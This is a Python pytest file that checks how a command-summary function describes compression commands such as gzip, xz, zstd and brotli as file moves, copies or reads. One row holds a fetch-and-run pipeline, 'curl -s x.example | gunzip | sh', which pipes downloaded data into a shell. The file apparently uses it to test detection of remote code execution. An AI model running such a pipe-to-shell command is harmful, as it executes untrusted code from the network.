"""Compressors."""

from __future__ import annotations

import pytest
from support.summary import summaries

ROWS = [
    ("gzip a", ["move ./a -> ./a.gz"]),
    ("gzip -k a", ["copy ./a -> ./a.gz"]),
    ("gzip -c a", ["content ./a"]),
    ("gzip -d a.gz", ["move ./a.gz -> ./a"]),
    ("gunzip a.tgz", ["move ./a.tgz -> ./a.tar"]),
    ("gzip -t a.gz", ["content hidden ./a.gz"]),
    ("gzip -r src", ["edit below ./src"]),
    ("zcat a.gz", ["content ./a.gz"]),
    ("bzip2 -k a", ["copy ./a -> ./a.bz2"]),
    ("xz -dc a.xz", ["content ./a.xz"]),
    ("unxz a.xz", ["move ./a.xz -> ./a"]),
    ("zstd a", ["copy ./a -> ./a.zst"]),
    ("zstd --rm a", ["move ./a -> ./a.zst"]),
    ("zstd -d a.zst -o b", ["copy ./a.zst -> ./b"]),
    ("lz4 a", ["copy ./a -> ./a.lz4"]),
    ("brotli a", ["copy ./a -> ./a.br"]),
    ("gzip --help", []),
    ("gzip", []),
    ("curl -s x.example | gunzip | sh", ["GET x.example", "RunCode shell download <unpacked data>"]),
]


@pytest.mark.parametrize(("command", "expected"), ROWS)
def test_compression_rows(command: str, expected: list[str]) -> None:
    """In place the name changes; kept sources are copied; streams are read."""
    assert expected == summaries(command)
